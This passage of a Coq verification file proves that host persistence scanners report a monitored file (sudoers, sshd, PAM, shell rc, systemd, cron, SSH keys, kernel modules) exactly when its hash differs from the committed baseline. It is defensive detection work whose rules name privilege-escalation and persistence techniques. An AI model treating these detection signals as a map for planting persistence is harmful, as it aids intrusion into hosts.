(* ===== verification/PersistenceFacts.v ===== *)
(** Theorems on the persistence scanners: a change is reported if and only if
    the file differs from the baseline, and a scan right after a commit is
    quiet. *)
From S2P Require Export Persistence.

Lemma file_event_signals cfg snap pack v now r tech tac path hash sigs evd :
  ev_Signals (file_event cfg snap pack v now r tech tac path hash sigs evd) = sigs.
Proof. unfold file_event. by rewrite NormalizeDedup_signals. Qed.

Lemma file_event_path cfg snap pack v now r tech tac path hash sigs evd :
  en_Path (ev_Entity (file_event cfg snap pack v now r tech tac path hash sigs evd)) = path.
Proof. unfold file_event. by rewrite NormalizeDedup_entity. Qed.

(** * Maps that are written consistently *)

Section consistent.
Context {A V : Type}.
Variables (key : A → string) (val : A → option V).

Definition writes (m : gomap V) (l : list A) : gomap V :=
  fold_left (λ m a, match val a with Some v => ginsert (key a) v m | None => m end) l m.

Hypothesis agree : ∀ a b v w, key a = key b → val a = Some v → val b = Some w → v = w.

Lemma writes_keep m l a v :
  is_Some m → val a = Some v → glookup m (key a) = Some v →
  is_Some (writes m l) ∧ glookup (writes m l) (key a) = Some v.
Proof using agree.
  unfold writes. revert m. induction l as [|b l IH]; intros m Hm Ha Hl; [done|]. cbn [fold_left].
  apply IH; [by destruct (val b), Hm as [? ->]|done|].
  destruct (val b) as [w|] eqn:Hb; [|done]. destruct Hm as [m' ->]. cbn in *.
  destruct (decide (key b = key a)) as [Hk|Hk]; [|by rewrite lookup_insert_ne].
  rewrite Hk, lookup_insert_eq. f_equal. by eapply agree.
Qed.

Lemma writes_some m l : is_Some m → is_Some (writes m l).
Proof.
  unfold writes. revert m. induction l as [|b l IH]; intros m Hm; [done|]. cbn [fold_left].
  apply IH. by destruct (val b), Hm as [? ->].
Qed.

(** What is written can be read back, whatever else is written. *)
Lemma writes_lookup m l a v :
  is_Some m → a ∈ l → val a = Some v → glookup (writes m l) (key a) = Some v.
Proof using agree.
  unfold writes. revert m. induction l as [|b l IH]; intros m Hm Hin Ha; [by apply elem_of_nil in Hin|].
  cbn [fold_left]. apply elem_of_cons in Hin as [<-|Hin].
  - rewrite Ha. apply writes_keep; [by destruct Hm as [? ->]|done|]. destruct Hm as [m' ->]. cbn.
    by rewrite lookup_insert_eq.
  - apply IH; [by destruct (val b), Hm as [? ->]|done..].
Qed.

Lemma writes_other m l k : k ∉ map key l → glookup (writes m l) k = glookup m k.
Proof.
  unfold writes. revert m. induction l as [|b l IH]; intros m Hk; [done|]. cbn [fold_left].
  cbn [map] in Hk. apply not_elem_of_cons in Hk as [Hne Hk]. rewrite IH by done.
  destruct (val b); [|done]. destruct m as [m|]; [|done]. cbn. by rewrite lookup_insert_ne.
Qed.

Lemma writes_app m l k : writes m (l ++ k) = writes (writes m l) k.
Proof. apply fold_left_app. Qed.

End consistent.

Section host.
Context `{FileReader} `{DirReader} `{Stater} `{TreeWalker} `{Commander} `{CurrentUser}.

(** ** The file map *)

Definition sha_of (p : string) : option string := if fileSHA p =s? "" then None else Some (fileSHA p).

Lemma record_writes m paths : recordPersistenceBaseline m paths = writes id sha_of m paths.
Proof.
  unfold recordPersistenceBaseline, writes, sha_of. revert m. induction paths as [|p l IH]; intros m; [done|].
  cbn [fold_left]. rewrite IH. cbv zeta. by destruct (fileSHA p =s? "").
Qed.

Lemma sha_agree a b v w : id a = id b → sha_of a = Some v → sha_of b = Some w → v = w.
Proof. cbn. intros ->. congruence. Qed.

(** [p] is in the file map with its present hash. *)
Definition recorded (snap : Snapshot) (p : string) : Prop :=
  is_Some (bs_PersistenceFiles snap) ∧ (∀ h, sha_of p = Some h → glookup (bs_PersistenceFiles snap) p = Some h).

Lemma record_files_some targets snap :
  is_Some (bs_PersistenceFiles snap) → is_Some (bs_PersistenceFiles (record_files targets snap)).
Proof. intros Hm. change (bs_PersistenceFiles _) with (recordPersistenceBaseline (bs_PersistenceFiles snap) targets).
  rewrite record_writes. by apply writes_some. Qed.

Lemma record_files_keeps targets snap p : recorded snap p → recorded (record_files targets snap) p.
Proof.
  intros [Hm Hp]. split; [by apply record_files_some|]. intros h Hh.
  change (bs_PersistenceFiles (record_files targets snap)) with (recordPersistenceBaseline (bs_PersistenceFiles snap) targets).
  rewrite record_writes. apply (writes_keep id sha_of sha_agree _ _ p); auto.
Qed.

Lemma record_files_adds targets snap p :
  is_Some (bs_PersistenceFiles snap) → p ∈ targets → recorded (record_files targets snap) p.
Proof.
  intros Hm Hp. split; [by apply record_files_some|]. intros h Hh.
  change (bs_PersistenceFiles (record_files targets snap)) with (recordPersistenceBaseline (bs_PersistenceFiles snap) targets).
  rewrite record_writes. by apply (writes_lookup id sha_of sha_agree).
Qed.

Lemma fileSHA_ok p data : ReadFile p = Ok data → fileSHA p = sha256_hex data.
Proof. unfold fileSHA. by intros ->. Qed.

Lemma sha_of_ok p data : ReadFile p = Ok data → sha_of p = Some (sha256_hex data).
Proof. intros Hr. unfold sha_of. by rewrite (fileSHA_ok _ _ Hr), sha256_hex_nonempty. Qed.

Lemma changed_since_iff files p h : changed_since files p h = true ↔ glookup files p ≠ Some h.
Proof.
  unfold changed_since. destruct (glookup files p) as [prev|]; [|by split].
  rewrite negb_true_iff, String.eqb_neq. split; [by intros Hn [= ?]|]. intros Hn ->. by apply Hn.
Qed.

(** ** The loop over the files *)

Lemma per_file_iff files targets f ev :
  ev ∈ per_file files targets f ↔
  ∃ p data, p ∈ targets ∧ ReadFile p = Ok data ∧
    f p data (sha256_hex data) (changed_since files p (sha256_hex data)) = Some ev.
Proof.
  unfold per_file. rewrite list_elem_of_omap. split.
  - intros (p & Hp & Hf). destruct (ReadFile p) as [data|] eqn:Hr; [|done].
    rewrite (fileSHA_ok _ _ Hr), sha256_hex_nonempty in Hf. by exists p, data.
  - intros (p & data & Hp & Hr & Hf). exists p. split; [done|].
    by rewrite Hr, (fileSHA_ok _ _ Hr), sha256_hex_nonempty.
Qed.

(** A function that reports a change with signal [sig], and only a change. *)
Definition reports (sig : string → string) (f : string → string → string → bool → option Event) : Prop :=
  ∀ p data h changed,
    (∀ ev, f p data h changed = Some ev → en_Path (ev_Entity ev) = p ∧ (sig p ∈ ev_Signals ev ↔ changed = true)) ∧
    (changed = true → is_Some (f p data h changed)).

Definition reported (sig : string → string) (p : string) (evs : list Event) : Prop :=
  ∃ ev, ev ∈ evs ∧ en_Path (ev_Entity ev) = p ∧ sig p ∈ ev_Signals ev.

Definition differs (snap : Snapshot) (targets : list string) (p : string) : Prop :=
  p ∈ targets ∧ ∃ data, ReadFile p = Ok data ∧ glookup (bs_PersistenceFiles snap) p ≠ Some (sha256_hex data).

Lemma per_file_reports sig f snap targets p :
  reports sig f → reported sig p (per_file (bs_PersistenceFiles snap) targets f) ↔ differs snap targets p.
Proof.
  intros Hf. unfold reported, differs. split.
  - intros (ev & Hev & Hpath & Hsig). apply per_file_iff in Hev as (q & data & Hq & Hr & He).
    destruct (Hf q data (sha256_hex data) (changed_since (bs_PersistenceFiles snap) q (sha256_hex data))) as [Hs _].
    apply Hs in He as [Hp' Hiff]. assert (q = p) as -> by congruence. split; [done|]. exists data. split; [done|].
    by apply changed_since_iff, Hiff.
  - intros (Hp & data & Hr & Hne). apply changed_since_iff in Hne.
    destruct (Hf p data (sha256_hex data) (changed_since (bs_PersistenceFiles snap) p (sha256_hex data))) as [Hs Hsome].
    destruct (Hsome Hne) as [ev Hev]. exists ev. split; [apply per_file_iff; by exists p, data|].
    apply Hs in Hev as [Hpath Hiff]. split; [done|]. by apply Hiff.
Qed.

(** ** The scanners *)

Section scanners.
Variables (cfg : Config) (pack : Pack) (ver : string) (now : Time).

Definition always (s : string) : string → string := λ _, s.

Lemma sig_in_app (a b : list string) x : (x ∈ a ++ b ↔ x ∈ a ∨ x ∈ b).
Proof. apply elem_of_app. Qed.

(** Membership in a list of literal signals is decided by computation. *)
Ltac sigs := repeat case_match; cbn in *; rewrite ?elem_of_cons, ?elem_of_nil; naive_solver.

Lemma delta_reports f on_change (flagged : string → bool) on_flag mk :
  on_change ≠ on_flag →
  (∀ p data h sigs, en_Path (ev_Entity (mk p data h sigs)) = p ∧ ev_Signals (mk p data h sigs) = sigs) →
  (∀ p data h changed, f p data h changed =
     let sigs := delta_signals changed on_change (flagged data) on_flag in when_signalled sigs (mk p data h sigs)) →
  reports (always on_change) f.
Proof.
  intros Hne Hmk Hf p data h changed. rewrite Hf. cbv zeta. split; [|intros ->; by eexists].
  intros ev Hev.
  assert (Hs : on_change ∈ delta_signals changed on_change (flagged data) on_flag ↔ changed = true).
  { destruct changed, (flagged data); cbn; rewrite ?elem_of_cons, ?elem_of_nil; naive_solver. }
  destruct (delta_signals changed on_change (flagged data) on_flag) as [|x l]; [done|].
  injection Hev as <-. by destruct (Hmk p data h (x :: l)) as [-> ->].
Qed.

Lemma sudoers_reports snap : reports (always "sudoers_changed") (sudoers_file cfg snap pack ver now).
Proof.
  apply (delta_reports _ "sudoers_changed" (λ d, nonempty_list (sudoers_flagged d)) "sudoers_nopasswd_or_unrestricted"
    (λ p d h sigs, file_event cfg snap pack ver now RuleSudoersPersistence ["T1548.003"] "privilege-escalation"
       p h sigs (truncate (sjoin " | " (sudoers_flagged d)) 400))); [done| |].
  - intros. by rewrite file_event_path, file_event_signals.
  - intros. unfold sudoers_file. reflexivity.
Qed.

Lemma sshd_reports snap : reports (always "sshd_config_changed") (sshd_file cfg snap pack ver now).
Proof.
  apply (delta_reports _ "sshd_config_changed" (λ d, existsb high_risk_directive (sshd_flagged d)) "sshd_high_risk_directive"
    (λ p d h sigs, file_event cfg snap pack ver now RuleSSHDConfig ["T1098.004"; "T1556"] "persistence"
       p h sigs (truncate (sjoin " | " (sshd_flagged d)) 400))); [done| |].
  - intros. by rewrite file_event_path, file_event_signals.
  - intros. unfold sshd_file. reflexivity.
Qed.

Lemma ldconf_reports snap : reports (always "ld_so_conf_changed") (ldconf_file cfg snap pack ver now).
Proof.
  apply (delta_reports _ "ld_so_conf_changed" (λ d, nonempty_list (ldconf_flagged d)) "ld_so_conf_world_writable_entry"
    (λ p d h sigs, file_event cfg snap pack ver now RuleLDConfPersistence ["T1574.006"] "defense-evasion"
       p h sigs (truncate (sjoin " | " (ldconf_flagged d)) 300))); [done| |].
  - intros. by rewrite file_event_path, file_event_signals.
  - intros. unfold ldconf_file. reflexivity.
Qed.

Lemma shellrc_reports snap : reports (always "shell_rc_changed") (shellrc_file cfg snap pack ver now).
Proof.
  apply (delta_reports _ "shell_rc_changed"
    (λ d, existsb (λ tok, contains (to_lower d) (to_lower tok)) suspiciousShellRCTokens) "shell_rc_suspicious_token"
    (λ p d h sigs, file_event cfg snap pack ver now RuleShellRCPersistence ["T1546.004"] "persistence"
       p h sigs (truncate (trim_space d) 300))); [done| |].
  - intros. by rewrite file_event_path, file_event_signals.
  - intros p d h changed. unfold shellrc_file. cbv zeta. unfold delta_signals.
    destruct (existsb _ suspiciousShellRCTokens), changed; reflexivity.
Qed.

Lemma systemd_reports snap : reports (always "systemd_unit_new_or_changed") (evaluateSystemdUnit cfg snap pack ver now).
Proof.
  intros p data h changed. unfold evaluateSystemdUnit, always. cbv zeta.
  assert (Hs : "systemd_unit_new_or_changed" ∈ systemd_signals p data changed ↔ changed = true).
  { unfold systemd_signals. cbv zeta. rewrite !sig_in_app.
    destruct changed; cbn [negb andb]; rewrite ?andb_true_r, ?andb_false_r; sigs. }
  split.
  - intros ev. destruct (_ || _); [done|]. intros [= <-]. by rewrite file_event_path, file_event_signals.
  - intros ->. cbn [negb andb]. rewrite orb_false_r. rewrite bool_decide_eq_false_2; [by eexists|]. by intros [=].
Qed.

Definition pam_change (p : string) : string :=
  if has_prefix p (pamConfigDir +:+ "/") then "pam_config_changed" else "pam_module_new_or_changed".

Lemma pam_reports snap : reports pam_change (pam_file cfg snap pack ver now).
Proof.
  intros p data h changed. unfold pam_file. cbv zeta.
  assert (Hs : pam_change p ∈ pam_signals p data changed ↔ changed = true).
  { unfold pam_signals, pam_change. cbv zeta. rewrite sig_in_app.
    destruct (has_prefix p _), changed; try destruct (List.find _ _); rewrite ?elem_of_cons, ?elem_of_nil; naive_solver. }
  split.
  - intros ev. unfold when_signalled. destruct (pam_signals p data changed) as [|x l] eqn:El; [done|].
    intros [= <-]. by rewrite file_event_path, file_event_signals.
  - intros ->. unfold when_signalled. destruct (pam_signals p data true); [|by eexists].
    destruct Hs as [_ Hs]. by specialize (Hs eq_refl); apply elem_of_nil in Hs.
Qed.

(** The scanners that hash without reading the text first. *)
Lemma hashed_iff (targets : list string) (g : string → string → option Event) ev :
  ev ∈ omap (λ path, let hash := fileSHA path in if hash =s? "" then None else g path hash) targets ↔
  ∃ p data, p ∈ targets ∧ ReadFile p = Ok data ∧ g p (sha256_hex data) = Some ev.
Proof.
  rewrite list_elem_of_omap. cbv zeta. split.
  - intros (p & Hp & Hg). destruct (ReadFile p) as [data|] eqn:Hr.
    + rewrite (fileSHA_ok _ _ Hr), sha256_hex_nonempty in Hg. by exists p, data.
    + unfold fileSHA in Hg. by rewrite Hr in Hg.
  - intros (p & data & Hp & Hr & Hg). exists p. split; [done|]. by rewrite (fileSHA_ok _ _ Hr), sha256_hex_nonempty.
Qed.

Lemma hashed_reports sig (g : string → string → option Event) snap (targets : list string) p :
  (∀ q h ev, g q h = Some ev → en_Path (ev_Entity ev) = q ∧ sig q ∈ ev_Signals ev) →
  (∀ q h, is_Some (g q h) ↔ changed_since (bs_PersistenceFiles snap) q h = true) →
  reported sig p (omap (λ path, let hash := fileSHA path in if hash =s? "" then None else g path hash) targets) ↔
  differs snap targets p.
Proof.
  intros Hev Hsome. unfold reported, differs. setoid_rewrite hashed_iff. split.
  - intros (ev & (q & data & Hq & Hr & Hg) & Hp & Hs). destruct (Hev _ _ _ Hg) as [Hq' _].
    assert (q = p) as -> by congruence. split; [done|]. exists data. split; [done|].
    apply changed_since_iff, Hsome. by eexists.
  - intros (Hp & data & Hr & Hd). apply changed_since_iff, Hsome in Hd as [ev Hg].
    exists ev. destruct (Hev _ _ _ Hg) as [Hpath Hsig]. split; [by exists p, data|]. done.
Qed.

Lemma reported_app sig p (l k : list Event) :
  (∀ ev, ev ∈ l → sig p ∉ ev_Signals ev) → reported sig p (l ++ k) ↔ reported sig p k.
Proof.
  intros Hl. unfold reported. setoid_rewrite elem_of_app. split; [|naive_solver].
  intros (ev & [Hin|Hin] & Hp & Hs); [by destruct (Hl ev)|by exists ev].
Qed.

Lemma module_config_some snap q h ev :
  module_config cfg snap pack ver now q h = Some ev →
  en_Path (ev_Entity ev) = q ∧ always "modload_config_changed" q ∈ ev_Signals ev.
Proof.
  unfold module_config. destruct (changed_since _ _ _); [|done]. intros [= <-].
  rewrite file_event_path, file_event_signals. split; [done|]. left.
Qed.

Lemma module_config_is_some snap q h :
  is_Some (module_config cfg snap pack ver now q h) ↔ changed_since (bs_PersistenceFiles snap) q h = true.
Proof.
  unfold module_config. destruct (changed_since _ _ _); split; [done|by eexists|by intros []|done].
Qed.

Lemma new_modules_signals snap mods sig :
  sig ∈ ev_Signals (new_modules_event cfg snap pack ver now mods) → sig = "loaded_modules_delta" ∨ ∃ x, sig = "new_modules:" +:+ x.
Proof.
  unfold new_modules_event. cbv zeta. rewrite NormalizeDedup_signals, scan_event_signals, !elem_of_cons, elem_of_nil.
  intros [->|[->|[]]]; eauto.
Qed.

Lemma modules_reports snap p :
  reported (always "modload_config_changed") p (scanKernelModules cfg snap pack ver now) ↔
  differs snap collectModuleConfigTargets p.
Proof.
  unfold scanKernelModules. cbv zeta. etrans; [apply reported_app|].
  - intros ev Hin. destruct (_ && _); [|by apply elem_of_nil in Hin]. apply list_elem_of_singleton in Hin as ->.
    intros [Hs|[x Hs]]%new_modules_signals; discriminate Hs.
  - apply hashed_reports; [apply module_config_some|apply module_config_is_some].
Qed.

Definition user_signal (p : string) : string := "user_db_changed:" +:+ p.

Lemma user_file_some snap q h ev :
  user_file cfg snap pack ver now q h = Some ev →
  en_Path (ev_Entity ev) = q ∧ user_signal q ∈ ev_Signals ev.
Proof.
  unfold user_file. destruct (negb _); [done|].
  assert (Hs : user_signal q ∈ (user_file_rule q).2).
  { unfold user_file_rule. cbv zeta. destruct (q =s? "/etc/shadow"); [left|].
    destruct (q =s? "/etc/passwd"); [|left]. destruct (findEnabledServiceShells q); left. }
  destruct (user_file_rule q) as [r sigs]. cbn [snd] in Hs. intros [= <-].
  rewrite NormalizeDedup_entity, NormalizeDedup_signals. by split.
Qed.

Lemma user_file_is_some snap q h :
  is_Some (user_file cfg snap pack ver now q h) ↔ changed_since (bs_PersistenceFiles snap) q h = true.
Proof.
  unfold user_file. destruct (changed_since _ _ _); cbn [negb]; [|split; [by intros []|done]].
  destruct (user_file_rule q). split; [done|by eexists].
Qed.

Lemma users_reports snap p :
  reported user_signal p (scanUsers cfg snap pack ver now) ↔ differs snap (List.filter exists_ userFiles) p.
Proof.
  unfold scanUsers. etrans; [apply reported_app|].
  - intros ev (u & -> & _)%list_elem_of_fmap. unfold uid_zero_event. cbv zeta.
    rewrite NormalizeDedup_signals, scan_event_signals. intros Hs%list_elem_of_singleton. discriminate Hs.
  - rewrite omap_filter. apply hashed_reports; [apply user_file_some|apply user_file_is_some].
Qed.

(** The eight scanners that compare files: what they look at, how they scan,
    and the signal of a change. *)
Record fim_scanner := mkFim {
  fim_targets : list string;
  fim_scan : Snapshot → list Event;
  fim_signal : string → string
}.

Definition fim_scanners : list fim_scanner :=
  [mkFim systemd_targets (λ snap, scanSystemdUnits cfg snap pack ver now) (always "systemd_unit_new_or_changed");
   mkFim collectShellRCTargets (λ snap, scanShellRC cfg snap pack ver now) (always "shell_rc_changed");
   mkFim collectPAMTargets (λ snap, scanPAM cfg snap pack ver now) pam_change;
   mkFim collectSudoersTargets (λ snap, scanSudoers cfg snap pack ver now) (always "sudoers_changed");
   mkFim collectSSHDTargets (λ snap, scanSSHD cfg snap pack ver now) (always "sshd_config_changed");
   mkFim (List.filter exists_ userFiles) (λ snap, scanUsers cfg snap pack ver now) user_signal;
   mkFim collectModuleConfigTargets (λ snap, scanKernelModules cfg snap pack ver now) (always "modload_config_changed");
   mkFim collectLDConfTargets (λ snap, scanLDConf cfg snap pack ver now) (always "ld_so_conf_changed")].

Lemma scanner_reports sc snap p :
  sc ∈ fim_scanners →
  reported (fim_signal sc) p (fim_scan sc snap) ↔ differs snap (fim_targets sc) p.
Proof.
  unfold fim_scanners. rewrite !elem_of_cons, elem_of_nil.
  intros [->|[->|[->|[->|[->|[->|[->|[->|[]]]]]]]]]; cbn [fim_signal fim_scan fim_targets].
  - apply per_file_reports, systemd_reports.
  - apply per_file_reports, shellrc_reports.
  - apply per_file_reports, pam_reports.
  - apply per_file_reports, sudoers_reports.
  - apply per_file_reports, sshd_reports.
  - apply users_reports.
  - apply modules_reports.
  - apply per_file_reports, ldconf_reports.
Qed.

(** C10: File integrity monitoring is exact: for each of the eight scanners, a
    file is reported as new or changed if and only if it is one the scanner
    looks at, it can be read, and the baseline does not hold the SHA-256 of
    what it contains now. *)
Theorem fim_delta_iff sc snap p :
  sc ∈ fim_scanners →
  reported (fim_signal sc) p (fim_scan sc snap) ↔ differs snap (fim_targets sc) p.
Proof. apply scanner_reports. Qed.


(** ** A scan after a commit *)

Section commit.
Variable ssh_fingerprint : string → option string.

(** The maps of a snapshot that came from [Load_baseline]. *)
Definition maps_made (snap : Snapshot) : Prop :=
  is_Some (bs_PersistenceFiles snap) ∧ is_Some (bs_AuthKeys snap) ∧ is_Some (bs_CronLines snap).

#[local] Abbreviation commit := (commit_persistence ssh_fingerprint).

Definition user_fps (u : passwdEntry) : option (list string) :=
  if pw_dir u =s? "" then None
  else match ReadFile (authorized_keys_path u) with
       | Err _ => None
       | Ok data => match omap (λ '(_, line), ssh_fingerprint line) (content_lines MaxScanTokenSize data) with
                    | [] => None
                    | fps => Some fps
                    end
       end.

Definition file_fps (fpath : string) : option (list string) :=
  match ReadFile fpath with
  | Err _ => None
  | Ok data => match map (λ l, cronLineFingerprint fpath (snd l)) (content_lines (1024 * 1024) data) with
               | [] => None
               | fps => Some fps
               end
  end.

Lemma auth_keys_writes snap :
  bs_AuthKeys (BuildBaselineAuthKeys ssh_fingerprint snap) =
  writes authorized_keys_path user_fps (bs_AuthKeys snap) passwdUsers.
Proof.
  unfold BuildBaselineAuthKeys, writes. generalize passwdUsers. intros l. revert snap.
  induction l as [|u l IH]; intros snap; [done|]. cbn [fold_left]. rewrite IH. f_equal. unfold user_fps.
  destruct (pw_dir u =s? ""); [done|]. destruct (ReadFile _); [|done]. by destruct (omap _ _).
Qed.

Lemma cron_writes snap :
  bs_CronLines (BuildBaselineCron snap) = writes id file_fps (bs_CronLines snap) collectCronTargets.
Proof.
  unfold BuildBaselineCron, writes. generalize collectCronTargets. intros l. revert snap.
  induction l as [|u l IH]; intros snap; [done|]. cbn [fold_left]. rewrite IH. f_equal. unfold file_fps.
  destruct (ReadFile _); [|done]. by destruct (map _ _).
Qed.

Lemma auth_keys_files snap :
  bs_PersistenceFiles (BuildBaselineAuthKeys ssh_fingerprint snap) = bs_PersistenceFiles snap ∧
  bs_CronLines (BuildBaselineAuthKeys ssh_fingerprint snap) = bs_CronLines snap.
Proof.
  unfold BuildBaselineAuthKeys. generalize passwdUsers. intros l. revert snap.
  induction l as [|u l IH]; intros snap; [done|]. cbn [fold_left]. edestruct IH as [-> ->].
  destruct (pw_dir u =s? ""); [done|]. destruct (ReadFile _); [|done]. by destruct (omap _ _).
Qed.

Lemma cron_files snap :
  bs_PersistenceFiles (BuildBaselineCron snap) = bs_PersistenceFiles snap ∧
  bs_AuthKeys (BuildBaselineCron snap) = bs_AuthKeys snap.
Proof.
  unfold BuildBaselineCron. generalize collectCronTargets. intros l. revert snap.
  induction l as [|u l IH]; intros snap; [done|]. cbn [fold_left]. edestruct IH as [-> ->].
  destruct (ReadFile _); [|done]. by destruct (map _ _).
Qed.

(** The later functions write the file map and the list of modules only. *)
Lemma commit_other snap :
  bs_AuthKeys (commit snap) = writes authorized_keys_path user_fps (bs_AuthKeys snap) passwdUsers ∧
  bs_CronLines (commit snap) = writes id file_fps (bs_CronLines snap) collectCronTargets ∧
  bs_LoadedKernelModules (commit snap) = readLoadedModules.
Proof.
  split_and!; [| |reflexivity].
  - change (bs_AuthKeys (commit snap)) with (bs_AuthKeys (BuildBaselineCron (BuildBaselineAuthKeys ssh_fingerprint snap))).
    destruct (cron_files (BuildBaselineAuthKeys ssh_fingerprint snap)) as [_ ->]. apply auth_keys_writes.
  - change (bs_CronLines (commit snap)) with (bs_CronLines (BuildBaselineCron (BuildBaselineAuthKeys ssh_fingerprint snap))).
    rewrite cron_writes. by destruct (auth_keys_files snap) as [_ ->].
Qed.

(** Every file a scanner compares is a file the commit writes. *)
Definition committed_files : list string :=
  ((((((systemd_targets ++ collectPAMTargets) ++ collectShellRCTargets) ++ collectSudoersTargets) ++
    collectSSHDTargets) ++ userFiles) ++ collectModuleConfigTargets) ++ collectLDConfTargets.

Lemma commit_files snap :
  bs_PersistenceFiles (commit snap) = writes id sha_of (bs_PersistenceFiles snap) committed_files.
Proof.
  unfold committed_files. rewrite !writes_app, <-!record_writes.
  destruct (auth_keys_files snap) as [<- _].
  by destruct (cron_files (BuildBaselineAuthKeys ssh_fingerprint snap)) as [<- _].
Qed.

Lemma targets_committed sc p : sc ∈ fim_scanners → p ∈ fim_targets sc → p ∈ committed_files.
Proof.
  clear ssh_fingerprint. unfold fim_scanners, committed_files. rewrite !elem_of_cons, elem_of_nil, !elem_of_app.
  intros [->|[->|[->|[->|[->|[->|[->|[->|[]]]]]]]]]; cbn [fim_targets]; [tauto..| |tauto|tauto].
  intros [Hp _]%list_elem_of_In%filter_In. apply list_elem_of_In in Hp. tauto.
Qed.

(** A snapshot with the fields of this package as a commit leaves them. *)
Definition as_committed (snap s : Snapshot) : Prop :=
  bs_PersistenceFiles s = bs_PersistenceFiles (commit snap) ∧ bs_AuthKeys s = bs_AuthKeys (commit snap) ∧
  bs_CronLines s = bs_CronLines (commit snap) ∧ bs_LoadedKernelModules s = bs_LoadedKernelModules (commit snap).

Lemma commit_not_differs sc snap s p :
  sc ∈ fim_scanners → maps_made snap → as_committed snap s → ¬ differs s (fim_targets sc) p.
Proof.
  intros Hsc (Hm & _) (Hs & _) [Hp (data & Hr & Hne)]. apply Hne. rewrite Hs, commit_files.
  apply (writes_lookup id sha_of sha_agree); [done|by apply (targets_committed sc)|by apply sha_of_ok].
Qed.

Lemma user_fps_agree u v a b :
  authorized_keys_path u = authorized_keys_path v → user_fps u = Some a → user_fps v = Some b → a = b.
Proof.
  unfold user_fps. intros ->. do 2 (destruct (pw_dir _ =s? ""); [done|]). congruence.
Qed.

Lemma file_fps_agree a b v w : id a = id b → file_fps a = Some v → file_fps b = Some w → v = w.
Proof. cbn. intros ->. congruence. Qed.

(** No cron line is new. *)
Lemma commit_cron snap s : maps_made snap → as_committed snap s → scanCron cfg s pack ver now = [].
Proof.
  intros (_ & _ & Hm) (_ & _ & Hs & _). unfold scanCron. apply concat_nil_Forall, List.Forall_forall. intros evs.
  intros (fpath & -> & Hf)%list_elem_of_In%list_elem_of_fmap. destruct (ReadFile fpath) as [data|] eqn:Hr; [|done].
  apply omap_nil. intros nl_ Hl. unfold cron_line.
  set (fps := map (λ l, cronLineFingerprint fpath (snd l)) (content_lines (1024 * 1024) data)).
  assert (Hin : cronLineFingerprint fpath (snd nl_) ∈ fps) by (apply list_elem_of_fmap; by exists nl_).
  assert (Hv : file_fps fpath = Some fps).
  { unfold file_fps. rewrite Hr. fold fps. by destruct fps; [apply elem_of_nil in Hin|]. }
  rewrite Hs. destruct (commit_other snap) as (_ & -> & _).
  pose proof (writes_lookup id file_fps file_fps_agree _ collectCronTargets fpath fps Hm Hf Hv) as Hl'.
  cbn [id] in Hl'. rewrite Hl'. cbn [from_option id]. apply mem_str_spec in Hin. by rewrite Hin.
Qed.

(** No key is new: what is left are the lines that are not keys. *)
Lemma commit_keys snap s ev :
  maps_made snap → as_committed snap s →
  ev ∈ scanAuthorizedKeys ssh_fingerprint cfg s pack ver now → ev_RuleID ev = RuleAuthKeyAnomaly.
Proof.
  intros (_ & Hm & _) (_ & Hs & _). unfold scanAuthorizedKeys. intros (evs & (u & -> & Hu)%elem_of_map' & Hev)%elem_of_concat.
  unfold scan_user_keys in Hev. destruct (is_interactive u) eqn:Hi; [|by apply elem_of_nil in Hev].
  destruct (exists_ _); [|by apply elem_of_nil in Hev]. cbn [andb] in Hev.
  destruct (ReadFile _) as [data|] eqn:Hr; [|by apply elem_of_nil in Hev].
  apply list_elem_of_omap in Hev as ([no line] & Hl & Hev). unfold key_line in Hev.
  destruct (ssh_fingerprint line) as [fp|] eqn:Hfp.
  - set (fps := omap (λ '(_, l), ssh_fingerprint l) (content_lines MaxScanTokenSize data)).
    assert (Hin : fp ∈ fps) by (apply list_elem_of_omap; by exists (no, line)).
    assert (Hv : user_fps u = Some fps).
    { unfold user_fps. unfold is_interactive in Hi. destruct (pw_dir u =s? ""); [done|]. rewrite Hr. fold fps.
      by destruct fps; [apply elem_of_nil in Hin|]. }
    destruct (commit_other snap) as (Hk & _). rewrite Hs, Hk in Hev.
    rewrite (writes_lookup authorized_keys_path user_fps user_fps_agree _ passwdUsers u fps Hm Hu Hv) in Hev.
    cbn [from_option id] in Hev. apply mem_str_spec in Hin. by rewrite Hin in Hev.
  - injection Hev as <-. unfold invalid_key_event. cbv zeta. by rewrite NormalizeDedup_rule, scan_event_rule.
Qed.

(** Committing and scanning agree.  On a host that has not changed since
    the baseline was committed, none of the eight file scanners reports a
    change, no cron line and no authorized key is new, and no loaded module or
    module configuration is reported, whatever the baseline held before. *)
Lemma commit_quiet snap s :
  maps_made snap → as_committed snap s →
  (∀ sc p, sc ∈ fim_scanners → ¬ reported (fim_signal sc) p (fim_scan sc s)) ∧
  scanCron cfg s pack ver now = [] ∧
  (∀ ev, ev ∈ scanAuthorizedKeys ssh_fingerprint cfg s pack ver now → ev_RuleID ev = RuleAuthKeyAnomaly) ∧
  scanKernelModules cfg s pack ver now = [].
Proof.
  intros Hm Hs. split_and!; [|by apply (commit_cron snap)|by intros ev; apply (commit_keys snap)|].
  - intros sc p Hsc Hr. apply scanner_reports in Hr; [|done]. by eapply commit_not_differs.
  - unfold scanKernelModules. pose proof Hs as (_ & _ & _ & ->).
    destruct (commit_other snap) as (_ & _ & ->). rewrite filter_none, andb_false_r.
    + cbn [app]. apply omap_nil. intros p Hp. cbv zeta. destruct (fileSHA p =s? "") eqn:Hh; [done|].
      unfold module_config. destruct (changed_since _ _ _) eqn:Hc; [|done]. apply changed_since_iff in Hc.
      destruct (ReadFile p) as [data|] eqn:Hr; [|by unfold fileSHA in Hh; rewrite Hr in Hh].
      rewrite (fileSHA_ok _ _ Hr) in Hc.
      by destruct (commit_not_differs (mkFim collectModuleConfigTargets
        (λ snap, scanKernelModules cfg snap pack ver now) (always "modload_config_changed")) snap s p);
        [unfold fim_scanners; set_solver|done|done|split; [done|by exists data]].
    + intros m Hin. apply mem_str_spec in Hin. by rewrite Hin.
Qed.

End commit.
End scanners.
End host.

(** * A host *)

Module DemoHost.

Definition files : list (string * string) :=
  [("/etc/sudoers", "%admin ALL=(ALL) ALL" +:+ str nl); ("/etc/crontab", "17 * * * * root run-parts /etc/cron.hourly" +:+ str nl);
   ("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza root@host" +:+ str nl);
   ("/proc/modules", "overlay 151552 0 - Live" +:+ str nl)].

#[export] Instance demo_files : FileReader := λ p,
  match List.find (λ e, e.1 =s? p) files with Some e => Ok e.2 | None => Err ErrNotExist end.
#[export] Instance demo_stat : Stater := λ p,
